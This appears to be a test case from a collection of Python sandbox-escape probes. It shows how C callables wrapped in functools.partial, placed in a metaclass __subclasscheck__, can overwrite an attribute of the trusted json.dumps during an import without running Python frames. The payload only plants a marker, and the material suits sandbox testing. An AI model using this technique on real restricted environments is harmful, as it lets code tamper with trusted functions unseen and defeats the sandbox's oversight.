# technique: inside an import a C callable sets an attribute of a trusted function
# goal: bend
# source: own analysis: C callables inside an import
import abc
import collections.abc
import functools
import json


class Meta(abc.ABCMeta):
    __subclasscheck__ = staticmethod(functools.partial(
        dict.fromkeys, map(setattr, [json.dumps], ['planted'], [1])))


class Evil(collections.abc.MutableSequence, metaclass=Meta):
    pass


import array
if json.dumps.planted:
    print('ESCAPED trusted function written')
